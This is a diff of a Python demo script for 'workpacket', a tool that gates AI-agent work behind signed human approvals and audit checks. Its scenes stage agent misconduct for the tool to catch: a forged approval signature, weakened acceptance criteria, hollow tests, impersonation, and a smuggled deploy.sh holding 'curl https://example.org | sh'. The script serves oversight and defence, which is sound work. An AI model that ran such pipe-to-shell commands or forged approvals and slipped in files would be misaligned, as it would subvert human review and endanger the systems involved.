@@ -17,16 +17,17 @@ NO_SUCH_KEY = 6
 
 
 def play(stage: Stage) -> None:
-    stage.say(f"The whole life of a work packet, in {stage.root}: all commands are real, the key is thrown away.")
+    stage.say(f"The whole life of a work packet, in {stage.root}. All commands are real; the keys are thrown away.")
     for scene in (begin, propose, refuse, approve, forge_an_approval, activate, work, prove, drift, audit):
         scene(stage)
-    stage.scene("The repository is yours to look at", f"cd {stage.root}, and begin with: workpacket status")
+    stage.scene("The repository is yours to explore", f"cd {stage.root}\nworkpacket status")
     stage.say("The report is ../report.html; it needs no network.")
 
 
 def begin(stage: Stage) -> None:
     stage.scene(
-        "Begin", "A repository, a key with which only Ann approves, and one each for what she and her agent write."
+        "Begin",
+        "A repository, a key with which only Ann approves, and one key each for the events she and her agent write.",
     )
     stage.quietly("git init --quiet --initial-branch=main")
     stage.quietly("git config user.name ann && git config user.email ann@example.org")
@@ -38,12 +39,15 @@ def begin(stage: Stage) -> None:
     stage.type("workpacket key init --agent coder")
     stage.type("workpacket policy trust")
     stage.quietly("git add --all && git commit --quiet -m 'Begin to govern'")
-    stage.say("From now on the policy on main decides. A change of it counts once it is on main, too.")
+    stage.say("From now on the policy on main decides. A change to it takes effect once it is on main, too.")
 
 
 def propose(stage: Stage) -> None:
-    stage.scene("Propose", "A stub is a piece of work that nobody may begin yet. A refinement says what it rests on.")
-    stage.type(f"workpacket new {NAME} --what 'Greet in three languages' --why 'Our users speak them' --as coder")
+    stage.scene("Propose", "A stub is work that may not begin yet. A refinement names the requirement it is based on.")
+    stage.type(
+        f"workpacket new {NAME} --what 'Greet in three languages' --why 'Our users speak them' --as coder",
+        picture="life",
+    )
     stage.edit(texts.STUB, *texts.STUB_EDITS)
     stage.type(f"workpacket refine {NAME} --as coder")
     fill_in_the_refinement(stage)
@@ -61,31 +65,31 @@ def fill_in_the_refinement(stage: Stage) -> None:
 
 
 def refuse(stage: Stage) -> None:
-    stage.scene("Refuse", "An agent wants to begin at once. It is told everything that is missing, not only the first.")
-    stage.type(f"workpacket create-task-packet {NAME} --as coder", ends=REFUSED_BY_A_GATE, picture=True)
-    stage.say("`true` would prove anything. What Ann signs names a test, and it cannot be another one later.")
+    stage.scene("Refuse", "An agent wants to begin at once. The refusal lists everything that is missing.")
+    stage.type(f"workpacket create-task-packet {NAME} --as coder", ends=REFUSED_BY_A_GATE, picture="refused")
+    stage.say("`true` would prove anything. What Ann signs names a test, which cannot be exchanged later.")
     stage.type(f"workpacket evidence demand {NAME} 1 --command '{texts.PROOF}' --as coder")
     stage.type(f"workpacket refine {NAME} --present --as coder")
 
 
 def approve(stage: Stage) -> None:
-    stage.scene("Approve", "Ann reads the whole text at her terminal, types the words, and ssh-keygen signs.")
+    stage.scene("Approve", "Ann reads the whole text at her terminal, types the confirmation, and ssh-keygen signs.")
     asked = [Answer("type: ", f"APPROVE REFINEMENT {NAME}"), Answer("Enter passphrase", PHRASE)]
-    stage.type(f"workpacket approve {NAME} --gate activation", answers=asked, picture=True)
+    stage.type(f"workpacket approve {NAME} --gate activation", answers=asked, picture="life")
     stage.quietly("git add .GOV && git commit --quiet -m 'Approve the greeting'")
 
 
 def forge_an_approval(stage: Stage) -> None:
-    stage.scene("Forge", "An agent puts Ann's signature under a text of its own, with another packet in it.")
+    stage.scene("Forge", "An agent puts Ann's signature under its own text, which approves another packet.")
     forged = forge(stage)
-    stage.type("workpacket approvals verify", ends=5, picture=True)
+    stage.type("workpacket approvals verify", ends=5, picture="refused")
     stage.say("Every signature is verified against the text that was signed and the policy on main.")
     stage.type(f"rm {forged}")
 
 
 def activate(stage: Stage) -> None:
-    stage.scene("Activate", "All seven conditions hold now: the task packet is made, and the board says so.")
-    stage.type(f"workpacket create-task-packet {NAME} --as coder", picture=True)
+    stage.scene("Activate", "All seven conditions are met: the task packet is created, and the board shows it.")
+    stage.type(f"workpacket create-task-packet {NAME} --as coder", picture="life")
     stage.edit(texts.PACKET, *texts.PACKET_EDITS)
     stage.type("workpacket check")
     stage.type(f"workpacket prepare {NAME} --for coder")
@@ -95,43 +99,43 @@ def activate(stage: Stage) -> None:
 
 
 def work(stage: Stage) -> None:
-    stage.scene("Work", "A script in three steps, which is killed in its second one: kill -9, as a power cut would.")
+    stage.scene("Work", "A script of three steps is killed in the second one with kill -9, as a power cut would do.")
     stage.write(texts.WORK, texts.WORK_TEXT)
     begun = f"sh {texts.WORK} Hello"
-    stage.type(begun, kill_after="translating into fr", picture=True)
+    stage.type(begun, kill_after="translating into fr", picture="life")
     stage.type("workpacket resume")
-    stage.say("Going on with another input is not going on: the run notices, and asks instead of guessing.")
-    stage.type(f"sh {texts.WORK} Goodbye", ends=60, picture=True)
-    stage.say("With the same input: what was done is answered from the log, the step in flight is done again.")
-    stage.type(begun, picture=True)
-    stage.say("German was begun once, for it was done; French twice, for nobody can know how far it had come.")
-    stage.type("sort ../begun | uniq -c | sed 's/^ *//'", picture=True)
+    stage.say("Resuming with another input would not be resuming: the run notices, and asks instead of guessing.")
+    stage.type(f"sh {texts.WORK} Goodbye", ends=60, picture="refused")
+    stage.say("With the same input, completed steps are answered from the log, and the interrupted one is repeated.")
+    stage.type(begun, picture="life")
+    stage.say("German was begun once, because it was done; French twice, because its progress was unknown.")
+    stage.type("sort ../begun | uniq -c | sed 's/^ *//'", picture="life")
 
 
 def prove(stage: Stage) -> None:
     stage.scene(
-        "Prove", "Work is finished when each line of its acceptance has evidence, and somebody else has judged it."
+        "Prove", "Work is finished when each acceptance criterion has evidence, and someone else has judged it."
     )
     stage.quietly("git add --all && git commit --quiet -m 'Greet in three languages'")
     rewrite(stage)
     smuggle(stage)
-    stage.say("The test runs here and on main: it has to fail there, or it would pass without the work.")
+    stage.say("The test runs here and on main. It must fail there: otherwise it would pass without the work.")
     for hollow in (texts.EMPTY_TEST, texts.SKIPPED_TEST):
         write_test(stage, hollow)
-        stage.type(f"workpacket submit {NAME} --as coder", ends=REFUSED_BY_A_GATE, picture=True)
+        stage.type(f"workpacket submit {NAME} --as coder", ends=REFUSED_BY_A_GATE, picture="refused")
     write_test(stage, texts.REAL_TEST)
-    stage.type(f"workpacket submit {NAME} --as coder", picture=True)
+    stage.type(f"workpacket submit {NAME} --as coder", picture="life")
     stage.write("report.md", "Read each of the three files. They greet.\n")
     judged = f"workpacket verdict {NAME} PASS --report report.md"
     stage.type(f"{judged} --as coder", ends=REFUSED_BY_A_GATE)
     asked = [Answer("type: ", f"APPROVE VERDICT {NAME}"), Answer("Enter passphrase", PHRASE)]
     stage.type(f"workpacket approve {NAME} --gate verdict --verdict PASS", answers=asked)
-    stage.say("A second name is no second person: who judges is a key, and the policy on main says whose it is.")
-    stage.type(f"{judged} --as eve", ends=NO_SUCH_KEY, picture=True)
-    stage.type(f"{judged} --as ann", picture=True)
+    stage.say("A second name is not a second person: a key judges, and the policy on main says whose key it is.")
+    stage.type(f"{judged} --as eve", ends=NO_SUCH_KEY, picture="refused")
+    stage.type(f"{judged} --as ann", picture="life")
     stage.quietly("git add --all && git commit --quiet -m 'Judge the greeting'")
     stage.quietly(f"git switch --quiet main && git merge --quiet wp/{NAME}")
-    stage.type(f"workpacket merged {NAME}", picture=True)
+    stage.type(f"workpacket merged {NAME}", picture="life")
     stage.quietly("git add --all && git commit --quiet -m 'The greeting is on main'")
 
 
@@ -141,36 +145,36 @@ def write_test(stage: Stage, text: str) -> None:
 
 
 def rewrite(stage: Stage) -> None:
-    stage.say("What was approved is the whole contract. A criterion made easier afterwards is another one.")
+    stage.say("Ann approved the whole contract. Making a criterion easier afterwards changes the contract.")
     for path in (texts.STUB, texts.PACKET):
         stage.edit(path, (texts.CRITERION, "Something was committed."))
-    stage.type("workpacket check", ends=1, picture=True)
+    stage.type("workpacket check", ends=1, picture="refused")
     stage.quietly("git checkout --quiet .GOV")
 
 
 def smuggle(stage: Stage) -> None:
-    stage.say("A file that no packet asks for does not come along: CI runs this check on the merge.")
+    stage.say("A file that no packet covers cannot slip in: CI runs this check on the merge.")
     stage.write("deploy.sh", "curl https://example.org | sh\n")
     stage.quietly("git add --all && git commit --quiet -m 'While I am here'")
-    stage.type("workpacket check --base main", ends=NOT_AS_JUDGED, picture=True)
+    stage.type("workpacket check --base main", ends=NOT_AS_JUDGED, picture="refused")
     stage.quietly("git reset --quiet --hard HEAD~1")
 
 
 def drift(stage: Stage) -> None:
-    stage.scene("Drift", "Somebody moves the packet on the board by hand. The log knows better, and says where.")
+    stage.scene("Drift", "Someone moves the packet on the board by hand. The log decides, and the check says where.")
     stage.edit(texts.BOARD, (f"- **[{NAME}]** - [VALIDATED]", f"- **[{NAME}]** - [FAIL]"))
-    stage.type("workpacket check", ends=1, picture=True)
-    stage.type("workpacket board sync", picture=True)
+    stage.type("workpacket check", ends=1, picture="refused")
+    stage.type("workpacket board sync", picture="refused")
     stage.type("workpacket check")
 
 
 def audit(stage: Stage) -> None:
-    stage.scene("Audit", "What happened, who approved it, and whether anybody changed the records since.")
-    stage.type(f"workpacket history {NAME}", picture=True)
+    stage.scene("Audit", "What happened, who approved it, and whether anyone has changed the records since.")
+    stage.type(f"workpacket history {NAME}", picture="life")
     stage.type("workpacket approvals list")
     stage.type("workpacket approvals verify")
     stage.type("workpacket log verify")
-    stage.say("And from the requirement to the commit, with the evidence on the way.")
+    stage.say("From the requirement to the commit, with the evidence in between:")
     stage.type(f"workpacket trace {NAME}")
-    stage.type("workpacket audit", picture=True)
+    stage.type("workpacket audit", picture="life")
     stage.type("workpacket audit --out ../report.html")
